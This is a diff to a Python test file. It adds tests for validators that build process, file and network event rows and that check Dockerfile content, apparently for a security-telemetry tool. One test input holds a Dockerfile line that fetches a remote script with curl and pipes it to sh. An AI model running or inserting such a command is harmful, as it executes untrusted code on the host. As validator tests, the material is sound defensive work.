@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -77,6 +78,55 @@ def test_boxes_become_rows() -> None:
         "FolderPath": "/tmp/Dockerfile",
         "DeviceName": "h",
     }
+
+
+@pytest.mark.parametrize(
+    ("made", "said"),
+    [
+        (lambda: rows.process_row(" \n", "", "", "", ""), "command_line is empty"),
+        (lambda: rows.file_row("/dev/shm/x/", "", ""), "file_path is a folder"),
+        (lambda: rows.file_row(" ", " ", ""), "file_path is a folder"),
+        *(
+            (lambda ip=ip: rows.network_row(ip, "", 443, "dockerd", ""), "it is an IP address")
+            for ip in ("files.example.net", "http://203.0.113.7/x", "203.0.113.7:443", " ")
+        ),
+    ],
+)
+def test_a_box_that_says_nothing_is_told(made: Callable[[], Event], said: str) -> None:
+    with pytest.raises(ShapeError, match=said):
+        made()
+
+
+def test_an_address_may_be_of_any_kind() -> None:
+    for ip in ("203.0.113.7", " 2001:db8::1 ", "fe80::1%eth0"):
+        assert rows.network_row(ip, "", 443, "dockerd", "")["RemoteIP"] == ip.strip()
+
+
+@pytest.mark.parametrize(
+    ("content", "said"),
+    [
+        (" \n", "is empty"),
+        ("FROM alpine\0", "is no text"),
+        ("FROM alpine\\nRUN curl http://203.0.113.7/x | sh\\n", "line ends spelled"),
+        ("<html><body>Sign in</body></html>", "something else"),
+        (json.dumps({"content": "FROM alpine\nRUN x"}, indent=1), "something else"),
+        ("RlJPTSBhbHBpbmUKUlVOIHgK\n", "something else"),
+        ("hello world\n", "something else"),
+    ],
+)
+def test_what_is_no_dockerfile_is_told(content: str, said: str) -> None:
+    with pytest.raises(ShapeError, match=said):
+        shapes.checked_dockerfile(content)
+
+
+def test_a_dockerfile_and_a_part_of_one_are_taken() -> None:
+    for content in (
+        "FROM alpine",
+        "run true\n",
+        "# x\nARG A=1\r\nFROM $A\r\n",
+        "FROM a\nRUN b\\nc",
+    ):
+        assert shapes.checked_dockerfile(content) == content
 
 
 def test_the_platforms_document_has_texts_and_is_else_as_it_is() -> None:
